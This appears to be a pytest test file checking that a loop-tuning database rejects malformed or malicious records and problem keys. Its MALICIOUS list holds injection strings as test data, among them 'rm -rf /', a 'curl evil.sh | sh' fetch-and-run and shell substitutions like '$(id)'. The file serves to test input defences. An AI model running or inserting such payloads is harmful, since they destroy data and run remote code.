"""Records, keys and their validation: nothing outside the schema gets in."""
from __future__ import annotations

import json
import math

import pytest
from hypothesis import given, strategies as st

import numpy as np

from looptune.database import MachineKey, Record, RecordError, better
from looptune.database.records import problem_from_dict, problem_from_key
from looptune.runtime.compiler.workload import MatmulProblem, ProblemError

from db_testlib import LOCAL, TRACE, make_record


@pytest.mark.parametrize("args", [dict(m=64, n=64, k=64), dict(m=1, n=2**24, k=7, batch=3, dtype="float64",
                                                               layout="tn", threads=16)])
def test_problem_key_and_dict_round_trip(args):
    p = MatmulProblem(**args)
    assert MatmulProblem.from_key(p.key()) == problem_from_key(p.key()) == p
    assert MatmulProblem.from_dict(p.to_dict()) == problem_from_dict(p.to_dict()) == p
    assert p.family == ("matmul", p.dtype, p.layout, p.threads)
    assert MatmulProblem(64, 64, 64).key() == "matmul:float32:nn:t1:b1:64x64x64"
    assert MatmulProblem(64, 64, 64).to_dict() == {"op": "matmul", "dtype": "float32", "layout": "nn", "threads": 1,
                                                   "batch": 1, "m": 64, "n": 64, "k": 64}


def test_problem_key_is_a_backward_compatible_alias():
    from looptune.database import ProblemKey

    assert ProblemKey is MatmulProblem
    assert ProblemKey(8, 8, 8, threads=2).key() == "matmul:float32:nn:t2:b1:8x8x8"


@pytest.mark.parametrize("key", ["matmul:float32:nn:t1:b1:64x64", "conv:float32:nn:t1:b1:1x1x1", "",
                                 "matmul:float32:nn:t1:b1:+64x64x64", "matmul:float32:nn:t1:b1:6_4x64x64",
                                 "matmul:float32:nn:t1:b1: 64x64x64", "matmul:float32:nn:t01:b1:64x64x64",
                                 "matmul:int8:nn:t1:b1:64x64x64", "matmul:float32:nn:t0:b1:64x64x64",
                                 "matmul:float32:nn:t1:b1:" + "9" * 5000 + "x1x1", None])
def test_bad_problem_keys_are_rejected(key):
    with pytest.raises(ProblemError) as e:      # from a user: a ValueError, not a database error
        MatmulProblem.from_key(key)
    assert not isinstance(e.value, RecordError) and len(str(e.value)) < 300
    with pytest.raises(RecordError):             # at the database boundary
        problem_from_key(key)


@pytest.mark.parametrize("field, value", [("m", 0), ("n", 2**24 + 1), ("k", -5), ("batch", True), ("m", 3.0),
                                          ("threads", 1025), ("dtype", "int8"), ("layout", "xx"),
                                          ("op", "system"), ("dtype", ["float32"]), ("m", "8")])
def test_problem_ranges(field, value):
    args = dict(m=8, n=8, k=8)
    args[field] = value
    with pytest.raises(ProblemError):
        MatmulProblem(**args)
    d = json.loads(make_record().to_json())
    d["problem"][field] = value
    with pytest.raises(RecordError, match=f"problem: {field}"):
        Record.from_dict(d)


def test_numpy_integers_are_accepted_as_plain_ints():
    p = MatmulProblem(np.int64(8), np.int32(16), np.uint16(32), batch=np.int8(2), threads=np.int64(4))
    assert p == MatmulProblem(8, 16, 32, batch=2, threads=4) and hash(p) == hash(MatmulProblem(8, 16, 32, 2, threads=4))
    assert all(type(getattr(p, f)) is int for f in ("m", "n", "k", "batch", "threads"))
    assert p.key() == "matmul:float32:nn:t4:b2:8x16x32"
    with pytest.raises(ProblemError):
        MatmulProblem(np.bool_(True), 8, 8)


def test_malformed_problem_objects_are_record_errors():
    d = json.loads(make_record().to_json())
    d["problem"]["extra"] = 1
    with pytest.raises(ProblemError, match="unexpected"):
        MatmulProblem.from_dict(d["problem"])
    with pytest.raises(RecordError, match="problem: missing fields \\[\\], unexpected fields \\['extra'\\]"):
        Record.from_dict(d)
    d["problem"] = "matmul:float32:nn:t1:b1:64x64x64"
    with pytest.raises(RecordError, match="problem: must be a JSON object"):
        Record.from_dict(d)


def test_candidates_is_a_count_persisted_as_budget():
    r = make_record()
    assert r.candidates == 200 and r.to_dict()["budget"] == 200 and "candidates" not in r.to_dict()
    assert Record.from_dict(r.to_dict()) == r
    d = r.to_dict()
    d["candidates"] = d.pop("budget")
    with pytest.raises(RecordError, match="unexpected"):
        Record.from_dict(d)


def test_machine_key_current_describes_this_machine():
    mk = MachineKey.current("gcc 12.2.0", "1")
    assert mk.cores >= 1 and mk.compiler == "gcc 12.2.0" and mk.codegen_version == "1"
    assert MachineKey.from_dict(mk.to_dict()) == mk


def test_record_json_round_trip():
    r = make_record(100, 200, 300, batch=4, dtype="float64", layout="nt", threads=2)
    assert Record.from_json(r.to_json()) == r
    assert Record.from_dict(json.loads(r.to_json())) == r


def _tampered(path: tuple, value) -> dict:
    d = json.loads(make_record().to_json())
    target = d
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return d


MALICIOUS = [
    # C code and shell text where loop names, ops and operands go
    (("trace", "steps", 0, "loop"), 'm; } system("rm -rf /"); {'),
    (("trace", "steps", 0, "loop"), "$(curl evil.sh | sh)"),
    (("trace", "steps", 0, "loop"), "m\n#include <stdlib.h>"),
    (("trace", "steps", 0, "op"), "asm"),
    (("trace", "steps", 0, "op"), "__import__('os').system('id')"),
    (("trace", "steps", 2, "order"), ["m.o", "n.o; exit(1)"]),
    (("trace", "steps", 5, "operand"), "C"),
    # out-of-range and wrongly typed numbers
    (("trace", "steps", 0, "factor"), 1 << 20),
    (("trace", "steps", 0, "factor"), -16),
    (("trace", "steps", 0, "factor"), "8"),
    (("trace", "steps", 4, "factor"), 1e9),
    (("problem", "m"), 0),
    (("problem", "m"), 2 ** 40),
    (("problem", "threads"), 10 ** 6),
    (("problem", "op"), "conv"),
    (("problem",), {"m": 8}),
    (("gflops_median",), float("nan")),
    (("gflops_median",), -1.0),
    (("numpy_gflops",), 1e300),
    (("gflops_spread",), 10 ** 400),
    (("budget",), -1),
    (("verified",), "yes"),
    (("timestamp",), float("inf")),
    # text fields: printable ASCII / token only
    (("policy",), "dqn; rm -rf ~"),
    (("machine", "compiler"), "gcc\x00 -fplugin=evil.so"),
    (("machine", "cpu_model"), "x" * 10_000),
    (("machine", "features"), ["avx2", "$(id)"]),
    (("version",), 2),
]


@pytest.mark.parametrize("path, value", MALICIOUS, ids=[f"{'.'.join(map(str, p))}={v!r:.30}" for p, v in MALICIOUS])
def test_malicious_or_out_of_range_fields_are_rejected(path, value):
    with pytest.raises(RecordError):
        Record.from_dict(_tampered(path, value))


def test_unknown_and_missing_fields_are_rejected():
    d = json.loads(make_record().to_json())
    with pytest.raises(RecordError, match="unexpected"):
        Record.from_dict({**d, "compile_flags": "-O3; rm -rf /"})
    del d["trace"]
    with pytest.raises(RecordError, match="missing"):
        Record.from_dict(d)
    with pytest.raises(RecordError):
        Record.from_json("{not json")
    with pytest.raises(RecordError):
        Record.from_json("[" * 100_000)


def test_records_built_in_code_are_checked_too():
    with pytest.raises(RecordError):
        Record(MatmulProblem(8, 8, 8), LOCAL, "split m 8", 1.0, 0.0, 1.0, True)
    with pytest.raises(RecordError):
        make_record(gflops=math.inf)
    r = Record(MatmulProblem(8, 8, 8), LOCAL, TRACE, 1, 0, 1, 1)        # ints and 0/1 are normalized
    assert r.gflops_median == 1.0 and type(r.gflops_median) is float and r.verified is True


def test_better_prefers_verified_then_faster_and_is_symmetric():
    fast_unverified = make_record(gflops=500.0, verified=False)
    slow_verified = make_record(gflops=100.0)
    faster_verified = make_record(gflops=120.0)
    assert better(fast_unverified, slow_verified) is slow_verified
    assert better(slow_verified, faster_verified) is faster_verified
    assert better(faster_verified, slow_verified) is faster_verified


@given(st.floats(0, 1e4), st.floats(0, 1e4), st.sampled_from(["a", "b", "c"]), st.sampled_from(["a", "b", "c"]))
def test_better_is_a_total_order(g1, g2, p1, p2):
    a = Record(MatmulProblem(8, 8, 8), LOCAL, TRACE, g1, 0.0, 1.0, True, policy=p1, timestamp=1.0)
    b = Record(MatmulProblem(8, 8, 8), LOCAL, TRACE, g2, 0.0, 1.0, True, policy=p2, timestamp=1.0)
    assert better(a, b) == better(b, a)


def test_machine_key_current_sanitizes_free_text():
    from looptune.runtime.compiler.machine import CpuInfo
    cpu = CpuInfo("x86_64", "Weird\u2122 CPU\n@ 3GHz", ("avx2", "fma"), 4, 1, 1, 1)
    assert MachineKey.current("gcc 12", "1", cpu=cpu).cpu_model == "Weird? CPU?@ 3GHz"


def test_huge_numbers_and_strings_give_short_errors():
    d = json.loads(make_record().to_json())
    d["problem"]["m"] = 10 ** 5000
    with pytest.raises(RecordError) as e:
        Record.from_dict(d)
    assert len(str(e.value)) < 200
    with pytest.raises(RecordError, match="not valid JSON"):
        Record.from_json('{"budget": ' + "9" * 5000 + "}")
    d = json.loads(make_record().to_json())
    d["machine"]["cpu_model"] = "x" * 100_000
    with pytest.raises(RecordError) as e:
        Record.from_dict(d)
    assert len(str(e.value)) < 300
